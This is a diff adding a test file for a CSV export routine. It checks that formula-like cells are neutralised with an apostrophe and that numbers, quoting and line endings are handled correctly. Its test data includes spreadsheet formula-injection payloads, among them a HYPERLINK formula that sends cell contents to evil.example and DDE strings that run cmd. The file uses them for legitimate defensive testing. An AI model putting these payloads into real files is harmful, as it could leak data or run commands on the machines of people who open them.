@@ -1,0 +1,42 @@
+/** What a spreadsheet makes of our files: text is text, whatever a customer typed, and money is numbers. */
+import { expect, test } from 'vitest';
+import { csvStream } from './csv.ts';
+
+const textOf = async (rows: (string | number | null)[][]): Promise<string> => {
+  async function* batches() {
+    for (const row of rows) yield [row];
+  }
+  const bytes = await new Response(csvStream({ fileName: 'x.csv', head: ['a', 'b'], batches: batches() })).bytes();
+  return Buffer.from(bytes).toString('utf8');
+};
+
+/** What spreadsheets take for a formula: OWASP's list, and the full-width signs that some of them take too. */
+const formulas = [
+  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3+cmd|calc',
+  '@SUM(1+1)*cmd|calc',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+];
+
+test('a cell that would be a formula begins with an apostrophe, also within quotes', async () => {
+  for (const formula of formulas) {
+    const [, line = ''] = (await textOf([[formula, 1]])).split(/\r\n(?=.)/);
+    expect(line.replace(/^"/, '').startsWith(`'${formula.slice(0, 1)}`), JSON.stringify(formula)).toBe(true);
+  }
+});
+
+test('money stays a number, a minus too; lines end as Windows ends them; the beginning says UTF-8', async () => {
+  expect(
+    await textOf([
+      ['Müller, "Ama"', -12.5],
+      ['two\nlines', null],
+    ]),
+  ).toBe('\ufeffa,b\r\n"Müller, ""Ama""",-12.5\r\n"two\nlines",\r\n');
+});
